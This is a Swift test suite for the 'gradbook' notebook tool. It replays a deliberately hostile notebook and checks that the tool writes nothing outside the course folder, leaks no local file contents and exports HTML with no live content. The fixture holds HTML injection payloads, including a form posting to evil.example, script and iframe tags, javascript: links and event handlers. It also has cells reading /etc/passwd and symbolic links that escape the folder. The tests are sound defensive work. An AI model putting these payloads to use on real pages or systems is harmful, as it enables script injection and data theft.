import Foundation
import NotebookFormat
import Testing
import Workspace

@testable import REPL

/// Issue 13's hostile notebook: a course-like folder someone else wrote, with a symbolic link
/// for an assets folder, a link for a figure, raw HTML in its prose and cells that load local
/// files. Replayed with `run`, `check --update` and `:open`, then exported to HTML: nothing
/// outside the course folder changes, no local file's content reaches an output, and the
/// page has no active content.
@Suite struct HostileNotebookTests {
  static let binary: URL = {
    var url = URL(fileURLWithPath: #filePath)
    for _ in 0..<3 { url.deleteLastPathComponent() }
    return url.appendingPathComponent(".build/debug/gradbook")
  }()

  /// Runs the built `gradbook` in `folder`; its exit status and what it printed.
  static func gradbook(_ arguments: [String], in folder: URL) throws -> (Int32, String) {
    let process = Process()
    process.executableURL = binary
    process.arguments = arguments
    process.currentDirectoryURL = folder
    let output = Pipe()
    process.standardOutput = output
    process.standardError = output
    process.standardInput = FileHandle.nullDevice
    try process.run()
    let data = output.fileHandleForReading.readDataToEndOfFile()
    process.waitUntilExit()
    return (process.terminationStatus, String(decoding: data, as: UTF8.self))
  }

  /// Every entry under `folder`, links not followed: a file's bytes, a link's target.
  static func snapshot(_ folder: URL) throws -> [String: Data] {
    var result: [String: Data] = [:]
    func walk(_ url: URL, _ relative: String) throws {
      let attributes = try FileManager.default.attributesOfItem(atPath: url.path)
      switch attributes[.type] as? FileAttributeType {
      case .typeSymbolicLink?:
        let target = try FileManager.default.destinationOfSymbolicLink(atPath: url.path)
        result[relative] = Data(("link → " + target).utf8)
      case .typeDirectory?:
        result[relative + "/"] = Data()
        for name in try FileManager.default.contentsOfDirectory(atPath: url.path) {
          try walk(url.appendingPathComponent(name), relative + "/" + name)
        }
      default:
        result[relative] = try Data(contentsOf: url)
      }
    }
    try walk(folder, "")
    return result
  }

  static let lesson = """
    <!-- gradbook notebook format=1 seed=42 -->
    # Lesson 1 $w \\cdot x$

    <meta http-equiv="refresh" content="0;url=https://evil.example/">
    <form action="https://evil.example/collect"><input name="q"><button>Send</button></form>
    <script>alert(1)</script><iframe src="https://evil.example/"></iframe>
    <base href="https://evil.example/">
    Click <a href="javascript:alert(1)" onclick="alert(2)">here</a> or <b onmouseover="x()">here</b>.

    ```gradbook
    plot(xor())
    ```
    ```gradbook
    load("/etc/passwd", target: "y")
    ```
    ```gradbook
    load("../decoy/secret.csv", target: "y")
    ```
    ```gradbook
    1 + 1
    ```

    """

  static let other = """
    <!-- gradbook notebook format=1 seed=42 -->
    ```gradbook
    plot(xor())
    ```
    ![xor](other.nb.assets/cell-1.svg)
    <!-- figure cell=1 kind=points data-sha256=00 -->

    """

  @Test func replayingAndExportingAHostileNotebookChangesNothingOutsideItsFolder() throws {
    let root = FileManager.default.temporaryDirectory
      .appendingPathComponent("gb-hostile-\(UUID().uuidString)")
    let decoy = root.appendingPathComponent("decoy")
    let course = root.appendingPathComponent("course")
    let fm = FileManager.default
    defer { try? fm.removeItem(at: root) }
    try fm.createDirectory(
      at: decoy.appendingPathComponent("figures"), withIntermediateDirectories: true)
    try fm.createDirectory(at: course, withIntermediateDirectories: true)
    try "export PATH=/usr/bin\n".write(
      to: decoy.appendingPathComponent("bashrc"), atomically: true, encoding: .utf8)
    try "precious\n".write(
      to: decoy.appendingPathComponent("figures/cell-1.svg"), atomically: true, encoding: .utf8)
    try "precious 7\n".write(
      to: decoy.appendingPathComponent("figures/cell-7.svg"), atomically: true, encoding: .utf8)
    try "name,password\nroot,hunter2-secret\n".write(
      to: decoy.appendingPathComponent("secret.csv"), atomically: true, encoding: .utf8)
    try Self.lesson.write(
      to: course.appendingPathComponent("lesson.nb.md"), atomically: true, encoding: .utf8)
    try Self.other.write(
      to: course.appendingPathComponent("other.nb.md"), atomically: true, encoding: .utf8)
    // The links a cloned repository can hold.
    try fm.createSymbolicLink(
      atPath: course.appendingPathComponent("lesson.nb.assets").path,
      withDestinationPath: "../decoy/figures")
    try fm.createDirectory(
      at: course.appendingPathComponent("other.nb.assets"), withIntermediateDirectories: true)
    try fm.createSymbolicLink(
      atPath: course.appendingPathComponent("other.nb.assets/cell-1.svg").path,
      withDestinationPath: "../../decoy/bashrc")
    let before = try Self.snapshot(decoy)

    for arguments in [["run", "lesson.nb.md"], ["check", "--update", "lesson.nb.md"]] {
      let (status, out) = try Self.gradbook(arguments, in: course)
      #expect(status == 1, "\(arguments)")
      #expect(out.contains("lesson.nb.assets is a symbolic link"), "\(out)")
      #expect(out.contains("nothing was written"), "\(out)")
    }
    for arguments in [["run", "other.nb.md"], ["check", "--update", "other.nb.md"]] {
      let (status, out) = try Self.gradbook(arguments, in: course)
      #expect(status == 1, "\(arguments)")
      #expect(out.contains("other.nb.assets/cell-1.svg is a symbolic link"), "\(out)")
    }
    #expect(try Self.snapshot(decoy) == before)
    // Refused as a whole: the notebooks are as they were.
    #expect(
      try String(contentsOf: course.appendingPathComponent("lesson.nb.md"), encoding: .utf8)
        == Self.lesson)

    // :open replays it in a session (no file: writes), and :save refuses the links too.
    for name in ["lesson", "other"] {
      let file = course.appendingPathComponent("\(name).nb.md").path
      let out = transcript(ScriptedReader([":open \(file)", ":save"]))
      #expect(out.contains("opened \(file)"))
      #expect(out.contains("error: \(file) was not saved: "), "\(out)")
      #expect(out.contains("is a symbolic link"), "\(out)")
      // The local files' content is not in any error.
      #expect(!out.contains("hunter2") && !out.contains("root:"), "\(out)")
      if name == "lesson" {
        #expect(out.contains("/etc/passwd:1:1: no column named \"y\" in the header row"), "\(out)")
      }
    }
    #expect(try Self.snapshot(decoy) == before)

    // With the links gone, run writes real files beside the notebook, and its outputs name
    // the files without quoting them.
    try fm.removeItem(at: course.appendingPathComponent("lesson.nb.assets"))
    let (status, out) = try Self.gradbook(["run", "lesson.nb.md"], in: course)
    #expect(status == 0, "\(out)")
    let ran = try String(contentsOf: course.appendingPathComponent("lesson.nb.md"), encoding: .utf8)
    #expect(!ran.contains("hunter2") && !ran.contains("root:"))
    #expect(ran.contains("../decoy/secret.csv:1:1: no column named \"y\""))
    #expect(
      try Self.snapshot(course.appendingPathComponent("lesson.nb.assets")).keys.sorted()
        == ["/", "/cell-1.svg"])
    #expect(try Self.snapshot(decoy) == before)

    // The exported page: raw HTML shown as text, no active content, the maths still drawn.
    let (exported, exportOut) = try Self.gradbook(
      ["export", "lesson.nb.md", "--to", "html"], in: course)
    #expect(exported == 0, "\(exportOut)")
    let page = try String(
      contentsOf: course.appendingPathComponent("lesson.html"), encoding: .utf8)
    for active in [
      "<meta http-equiv=\"refresh\"", "<form", "<input", "<button", "<script", "<iframe", "<base",
      "javascript:", "onclick", "onmouseover",
    ] {
      // Shown as text it is escaped (`&lt;form`); as a tag or attribute it would be live.
      let live = page.components(separatedBy: "<").dropFirst().contains {
        ("<" + $0.prefix { $0 != ">" }).lowercased().contains(active.lowercased())
      }
      #expect(!live, "\(active)")
    }
    #expect(page.contains("&lt;meta http-equiv=\"refresh\""))
    #expect(page.contains("Click <a>here</a> or <b>here</b>."))
    #expect(page.contains("form-action 'none'; base-uri 'none'"))
    #expect(page.contains("<math"))
    #expect(try Self.snapshot(decoy) == before)
  }
}
